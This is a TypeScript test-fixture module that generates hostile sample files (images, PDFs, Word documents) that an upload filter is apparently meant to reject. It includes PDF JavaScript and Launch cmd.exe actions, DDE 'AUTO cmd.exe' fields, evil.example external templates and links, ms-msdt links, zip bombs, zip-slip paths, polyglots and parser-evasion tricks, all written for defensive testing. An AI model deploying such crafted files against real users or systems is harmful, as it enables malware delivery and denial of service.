import { deflateSync } from 'node:zlib';
import { makeCompoundFile } from './compoundFile';
import { picture, type Sample } from './good';
import { encryptedPdf, latin1, makePdf, objectStream, stream } from './pdf';
import { pngChunk, tinyPicture, withPngChunk } from './pictures';
import {
  docStreams,
  docxParts,
  makeDoc,
  makeDocx,
  paragraph,
  relationship,
  relationshipsPart,
} from './words';
import { makeZip } from './zip';

/** A hostile file and the reason for which it is refused. */
export type HostileSample = [...Sample, finding: string];

const page = latin1('<!doctype html><html><script>alert(1)</script></html>');
const eicar = latin1('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
const archive = makeZip([{ name: 'run.js', content: 'alert(1)' }]);
const joined = async (...parts: (Buffer | Promise<Buffer>)[]) =>
  Buffer.concat(await Promise.all(parts));
const jpeg = () => picture().jpeg().toBuffer();
const png = () => picture().png().toBuffer();

/** A PDF whose document does this when it is opened. */
const opening = (action: string) => makePdf({ catalog: '/OpenAction 5 0 R', objects: [action] });
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

/** A PNG that says how large it is, and has the pixels of a few rows. */
function largePng(width: number, height: number): Buffer {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(width);
  size.writeUInt32BE(height, 4);
  size[8] = 1;
  const rows = deflateSync(Buffer.alloc((width / 8 + 1) * 8));
  return Buffer.concat([
    tinyPicture('png').subarray(0, 8),
    pngChunk('IHDR', size),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The size in the header of the picture is changed to that of a flood. */
function largeJpeg(): Buffer {
  const bytes = tinyPicture('jpg');
  const frame = bytes.indexOf(latin1('\xff\xc0\x00\x11\x08'));
  bytes.writeUInt16BE(60_000, frame + 5);
  bytes.writeUInt16BE(60_000, frame + 7);
  return bytes;
}

function corrupted(bytes: Buffer): Buffer {
  const copy = Buffer.from(bytes);
  for (let i = 0; i < 30; i++) copy[Math.floor(copy.length / 2) + i]! ^= 0x5a;
  return copy;
}

const heic = Buffer.concat([
  Buffer.from('00000018', 'hex'),
  latin1('ftypheic\0\0\0\0mif1heic'),
  Buffer.alloc(400),
]);
const macroDocument = 'application/vnd.ms-word.document.macroEnabled.main+xml';

const picturesWithMore: HostileSample[] = [
  ['JPEG of four bytes', 'photo.jpg', () => Buffer.from('ffd8ffe0', 'hex'), 'damaged'],
  ['truncated JPEG', 'photo.jpg', async () => (await jpeg()).subarray(0, -40), 'damaged'],
  ['JPEG without its end', 'photo.jpg', async () => (await jpeg()).subarray(0, -2), 'damaged'],
  [
    'JPEG whose pixels end too early',
    'photo.jpg',
    async () =>
      joined(
        (await picture(600, 400).jpeg().toBuffer()).subarray(0, -9000),
        Buffer.from('ffd9', 'hex'),
      ),
    'damaged',
  ],
  ['corrupt PNG', 'photo.png', async () => corrupted(await png()), 'damaged'],
  [
    'truncated WebP',
    'photo.webp',
    async () => (await picture().webp().toBuffer()).subarray(0, -100),
    'damaged',
  ],
  [
    'truncated TIFF',
    'scan.tiff',
    async () => (await picture().tiff().toBuffer()).subarray(0, -300),
    'damaged',
  ],
  ['pixel flood PNG 50,000 x 50,000', 'photo.png', () => largePng(50_000, 50_000), 'pixels'],
  ['pixel flood JPEG 60,000 x 60,000', 'photo.jpg', largeJpeg, 'pixels'],
  ['JPG+HTML', 'photo.jpg', () => joined(jpeg(), page), 'extra'],
  ['JPG+ZIP', 'photo.jpg', () => joined(jpeg(), archive), 'extra'],
  [
    'JPG+program',
    'photo.jpg',
    () => joined(jpeg(), latin1('MZ\x90\0'), Buffer.alloc(400, 1)),
    'extra',
  ],
  [
    'JPG with a page in a comment',
    'photo.jpg',
    async () => {
      const bytes = await jpeg();
      const comment = Buffer.concat([
        Buffer.from('fffe', 'hex'),
        Buffer.from([0, page.length + 2]),
        page,
      ]);
      return Buffer.concat([bytes.subarray(0, 2), comment, bytes.subarray(2)]);
    },
    'extra',
  ],
  ['PNG+JS', 'photo.png', () => joined(png(), latin1('\n/**/alert(1)//')), 'extra'],
  [
    'PNG+PDF in a chunk',
    'photo.png',
    async () => withPngChunk(await png(), pngChunk('teSt', makePdf())),
    'extra',
  ],
  ['WebP+ZIP', 'photo.webp', () => joined(picture().webp().toBuffer(), archive), 'extra'],
  ['TIFF+ZIP', 'scan.tiff', () => joined(picture().tiff().toBuffer(), archive), 'extra'],
  [
    'EICAR in a JPG',
    'photo.jpg',
    async () => {
      const bytes = await jpeg();
      const comment = Buffer.concat([
        Buffer.from('fffe', 'hex'),
        Buffer.from([0, eicar.length + 2]),
        eicar,
      ]);
      return Buffer.concat([bytes.subarray(0, 2), comment, bytes.subarray(2)]);
    },
    'infected',
  ],
  ['HEIC called JPG', 'photo.jpg', () => heic, 'heic'],
];

/** A script in a stream of objects that is packed in this way. */
const packedScript = (entries: string, pack: (bytes: Buffer) => Buffer = (bytes) => bytes) =>
  makePdf({
    catalog: '/OpenAction 6 0 R',
    objects: [
      stream(`/Type/ObjStm/N 1/First 4${entries}`, deflateSync(pack(latin1(`6 0 ${script}`)))),
    ],
  });

/** Each row of five bytes as its difference to the row above, after the number of this predictor. */
function predicted(bytes: Buffer): Buffer {
  const padded = Buffer.concat([bytes, Buffer.alloc(4 - ((bytes.length + 4) % 5), 32)]);
  const rows: number[] = [];
  for (const [i, byte] of padded.entries()) {
    if (i % 5 === 0) rows.push(2);
    rows.push((byte - (padded[i - 5] ?? 0)) & 255);
  }
  return Buffer.from(rows);
}

const linked = (address: string) =>
  makePdf({
    page: '/Annots[5 0 R]',
    objects: [`<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${address})>>>>`],
  });
const withObject = (object: string | Buffer) => makePdf({ objects: [object] });
const form = '/Type/XObject/Subtype/Form/BBox[0 0 1 1]';

const packedPdfs: HostileSample[] = [
  ['a predictor', '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 5>>', predicted],
  ['an abbreviated predictor', '/Filter/FlateDecode/DP<</Predictor 12/Columns 5>>', predicted],
  ['a predictor of TIFF', '/Filter/FlateDecode/DecodeParms<</Predictor 2/Columns 1>>'],
  ['an abbreviated filter', '/Filter/Fl'],
  ['a filter between comments', '/Filter%a\n[%b\n/Fl]'],
  ['a filter that stands elsewhere', '/Filter 7 0 R'],
  ['two filters', '/Filter[/Crypt/FlateDecode]'],
  [
    'a predictor before another beginning',
    '/Filter/FlateDecode/DP<</Predictor 12/Columns 5>>/X(obj)',
    predicted,
  ],
].map(([about, entries, pack]) => [
  `PDF with JavaScript in compressed objects with ${about as string}`,
  'letter.pdf',
  () => packedScript(entries as string, pack as typeof predicted | undefined),
  'damaged',
]);

const pdfs: HostileSample[] = [
  ...packedPdfs,
  ...['%', '%(', '<(>', '(\\(', '(<<)'].map((before): HostileSample => [
    `PDF with Launch after ${before}`,
    'letter.pdf',
    () => opening(`<<${before}\n/S/Launch/F(cmd.exe)%)\n>>`),
    'active',
  ]),
  [
    'PDF with an object within a string',
    'letter.pdf',
    () => withObject('<</Title(9 0 obj /Launch endobj)>>'),
    'active',
  ],
  [
    'PDF with a form of another file',
    'letter.pdf',
    () => withObject(stream(`${form}/Ref<</F(\\\\\\\\evil.example\\\\a.pdf)/Page 0>>`, 'q Q')),
    'outside',
  ],
  [
    'PDF with a picture of OPI',
    'letter.pdf',
    () => withObject(stream(`${form}/OPI<</2.0<</F(a.tif)>>>>`, 'q Q')),
    'outside',
  ],
  [
    'PDF with a stream in another file',
    'letter.pdf',
    () => withObject(stream('/F(http://evil.example/)/FFilter/FlateDecode', '')),
    'outside',
  ],
  [
    'PDF with PostScript',
    'letter.pdf',
    () => withObject(stream('/Type/XObject/Subtype/PS', '(w) file')),
    'outside',
  ],
  ...['javascript:alert', ' File:///c:/cmd.exe', 'ms-msdt:/id', '//evil.example/a'].map(
    (address): HostileSample => [
      `PDF with a link to ${address}`,
      'letter.pdf',
      () => linked(address),
      'links',
    ],
  ),
  ['PDF of five bytes', 'letter.pdf', () => latin1('%PDF-'), 'damaged'],
  [
    'PDF without a page',
    'letter.pdf',
    () => latin1('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
    'damaged',
  ],
  ['truncated PDF', 'letter.pdf', () => makePdf().subarray(0, -100), 'damaged'],
  ['PDF with JavaScript', 'letter.pdf', () => opening(script), 'active'],
  [
    'PDF with JavaScript in a hidden name',
    'letter.pdf',
    () => opening('<</S/J#61vaScript/J#53(app.alert)>>'),
    'active',
  ],
  [
    'PDF with JavaScript in compressed objects',
    'letter.pdf',
    () => makePdf({ catalog: '/OpenAction 6 0 R', objects: [objectStream({ 6: script })] }),
    'active',
  ],
  [
    'PDF with JavaScript in compressed objects under a hidden name',
    'letter.pdf',
    () =>
      makePdf({
        catalog: '/OpenAction 6 0 R',
        objects: [objectStream({ 6: script }, '/Type /Obj#53tm')],
      }),
    'active',
  ],
  [
    'PDF with JavaScript that a later part replaces',
    'letter.pdf',
    () =>
      joined(
        opening(script),
        latin1(
          '5 0 obj\n<</S/GoTo/D[3 0 R/Fit]>>\nendobj\ntrailer\n<</Size 6/Root 1 0 R>>\nstartxref\n0\n%%EOF\n',
        ),
      ),
    'active',
  ],
  [
    'PDF with JavaScript of a field',
    'letter.pdf',
    () =>
      makePdf({
        page: '/Annots[<</Type/Annot/Subtype/Widget/AA<</K 5 0 R>>>>]',
        objects: [script],
      }),
    'active',
  ],
  ['PDF with Launch', 'letter.pdf', () => opening('<</S/Launch/F(cmd.exe)>>'), 'active'],
  [
    'PDF that opens an address by itself',
    'letter.pdf',
    () => opening('<</S/URI/URI(http://evil.example/)>>'),
    'active',
  ],
  [
    'PDF that opens another document',
    'letter.pdf',
    () => opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\x.pdf)>>'),
    'active',
  ],
  [
    'PDF with an XFA form',
    'letter.pdf',
    () => makePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', objects: [stream('', '<xdp/>')] }),
    'active',
  ],
  [
    'PDF with an embedded exe',
    'letter.pdf',
    () =>
      makePdf({
        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>',
        objects: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', stream('/Type/EmbeddedFile', 'MZ')],
      }),
    'attachments',
  ],
  [
    'PDF with a film',
    'letter.pdf',
    () => makePdf({ page: '/Annots[5 0 R]', objects: ['<</Type/Annot/Subtype/RichMedia>>'] }),
    'attachments',
  ],
  ['encrypted PDF', 'letter.pdf', encryptedPdf, 'locked'],
  [
    'encrypted PDF that hides it',
    'letter.pdf',
    async () => latin1((await encryptedPdf()).toString('latin1').replace('/Encrypt', '/#45ncrypt')),
    'locked',
  ],
  ['EICAR in a PDF', 'letter.pdf', () => makePdf({ objects: [stream('', eicar)] }), 'infected'],
  ['PDF+HTML', 'letter.pdf', () => joined(page, makePdf()), 'extra'],
  ['PDF with a page behind it', 'letter.pdf', () => joined(makePdf(), page), 'extra'],
  ['PDF+ZIP', 'letter.pdf', () => joined(makePdf(), archive), 'extra'],
  [
    'PDF whose compressed objects are a bomb',
    'letter.pdf',
    () =>
      makePdf({
        objects: [
          stream(
            '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
            deflateSync(Buffer.alloc(100_000_000, 32), { level: 9 }),
          ),
        ],
      }),
    'inflated',
  ],
];

const instruction = (text: string) =>
  makeZip(docxParts(paragraph(`<w:instrText>${text}</w:instrText>`)));

const words: HostileSample[] = [
  ...[
    '<![CDATA[DDE]]>AUTO cmd.exe',
    '<![CDATA[INCLUDE]]>PICTURE "http://evil.example/a"',
    'DDE<!-- > -->AUTO cmd.exe',
    'DDE<?a ?>AUTO cmd.exe',
  ].map((text): HostileSample => [
    `docx with the field ${text}`,
    'letter.docx',
    () => instruction(text),
    'outside',
  ]),
  ...['file:///c:/cmd.exe', 'java&#9;script:alert', 'ms-msdt:/id'].flatMap(
    (address): HostileSample[] => [
      [
        `docx with a link to ${address}`,
        'letter.docx',
        () =>
          makeDocx(
            relationshipsPart('word/_rels/document.xml.rels', relationship('hyperlink', address)),
          ),
        'links',
      ],
      [
        `docx with a field of a link to ${address}`,
        'letter.docx',
        () => instruction(`HYPERLINK &quot;${address}&quot;`),
        'links',
      ],
    ],
  ),
  [
    'docx with vbaProject.bin',
    'letter.docx',
    () => makeDocx({ name: 'word/vbaProject.bin', content: 'Attribut' }),
    'macros',
  ],
  [
    'docx that is a docm',
    'letter.docx',
    () => makeZip(docxParts(undefined, macroDocument)),
    'macros',
  ],
  [
    'docx with an external template',
    'letter.docx',
    () =>
      makeDocx(
        relationshipsPart(
          'word/_rels/settings.xml.rels',
          relationship('attachedTemplate', 'https://evil.example/a.dotm'),
        ),
      ),
    'outside',
  ],
  [
    'docx with an external template in another encoding',
    'letter.docx',
    () => {
      const { name, content } = relationshipsPart(
        'word/_rels/settings.xml.rels',
        relationship('frame', '\\\\evil.example\\a', 'Exter&#x6e;al'),
      );
      return makeDocx({
        name,
        content: Buffer.from(`\ufeff${String(content).replace('UTF-8', 'UTF-16')}`, 'utf16le'),
      });
    },
    'outside',
  ],
  [
    'docx that starts a program by DDE',
    'letter.docx',
    () =>
      makeZip(
        docxParts(
          paragraph('<w:instrText>DDE</w:instrText>') +
            paragraph('<w:instrText>AUTO c:\\\\cmd.exe</w:instrText>'),
        ),
      ),
    'outside',
  ],
  [
    'docx with nested zip',
    'letter.docx',
    () => makeDocx({ name: 'word/media/image1.png', content: archive, isStored: true }),
    'embedded',
  ],
  [
    'docx with an OLE object',
    'letter.docx',
    () =>
      makeDocx({
        name: 'word/embeddings/oleObject1.bin',
        content: makeCompoundFile({ '\x01Ole10Native': 'cmd' }),
      }),
    'embedded',
  ],
  [
    'docx with ActiveX',
    'letter.docx',
    () => makeDocx({ name: 'word/activeX/activeX1.xml', content: '<ax/>' }),
    'embedded',
  ],
  [
    'docx with 30,000 entries',
    'letter.docx',
    () =>
      makeDocx(
        ...Array.from({ length: 30_000 }, (_, i) => ({
          name: `customXml/${i}.xml`,
          content: '',
          isStored: true,
        })),
      ),
    'inflated',
  ],
  [
    'docx that is a zip bomb of 400 MB',
    'letter.docx',
    () =>
      makeDocx(
        ...Array.from({ length: 8 }, (_, i) => ({
          name: `word/media/${i}.bmp`,
          content: Buffer.alloc(50_000_000),
        })),
      ),
    'inflated',
  ],
  [
    'docx that lies about its size',
    'letter.docx',
    () =>
      makeDocx({ name: 'word/media/1.bmp', content: Buffer.alloc(50_000_000), claimedSize: 1000 }),
    'damaged',
  ],
  [
    'docx with zip-slip names',
    'letter.docx',
    () => makeDocx({ name: '../../../../etc/cron.xml', content: 'x' }),
    'damaged',
  ],
  [
    'docx with a locked entry',
    'letter.docx',
    () => makeDocx({ name: 'word/a.xml', content: 'x', isEncrypted: true }),
    'locked',
  ],
  [
    'docx with a password',
    'letter.docx',
    () => makeCompoundFile({ EncryptedPackage: 'x', EncryptionInfo: 'y' }),
    'locked',
  ],
  ['docx that is another zip', 'letter.docx', () => archive, 'embedded'],
  [
    'docx that is an empty zip',
    'letter.docx',
    () => makeZip([{ name: 'a.xml', content: '<a/>' }]),
    'content',
  ],
  ['docx with something behind it', 'letter.docx', () => joined(makeDocx(), page), 'extra'],
  [
    'doc that is an xls',
    'letter.doc',
    () => makeCompoundFile({ Workbook: Buffer.alloc(5000, 9) }),
    'content',
  ],
  [
    'doc that is an msi',
    'letter.doc',
    () =>
      makeCompoundFile({
        '\u4840\u3f3f\u4577': Buffer.alloc(5000, 9),
        '\x05SummaryInformation': 'x',
      }),
    'content',
  ],
  [
    'doc with macros',
    'letter.doc',
    () => makeDoc({ 'Macros/VBA/dir': 'x', 'Macros/VBA/_VBA_PROJECT': 'y' }),
    'macros',
  ],
  [
    'doc with an embedded object',
    'letter.doc',
    () => makeDoc({ 'ObjectPool/_1/\x01Ole10Native': 'cmd' }),
    'embedded',
  ],
  ['doc with a password', 'letter.doc', () => makeDoc({}, { flags: 0x0300 }), 'locked'],
  [
    'doc with an external template',
    'letter.doc',
    () => makeDoc({}, { template: 'http://evil.example/a.dot' }),
    'outside',
  ],
  [
    'doc with garbage after the magic',
    'letter.doc',
    () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(4000, 0x5a)]),
    'damaged',
  ],
  [
    'doc whose sectors run in a circle',
    'letter.doc',
    () => {
      const bytes = makeCompoundFile(docStreams());
      // The first sector of the only table of sectors: the chain of the document leads back to its start.
      bytes.writeUInt32LE(0, 512 + bytes.readUInt32LE(76) * 512);
      return bytes;
    },
    'damaged',
  ],
  [
    'doc with a program behind it',
    'letter.doc',
    () => joined(makeDoc(), latin1('MZ'), Buffer.alloc(70_000, 1)),
    'damaged',
  ],
];

/** What an attacker or a broken program sends under an accepted name, none of which may be taken. */
export const hostileFiles: HostileSample[] = [...picturesWithMore, ...pdfs, ...words];
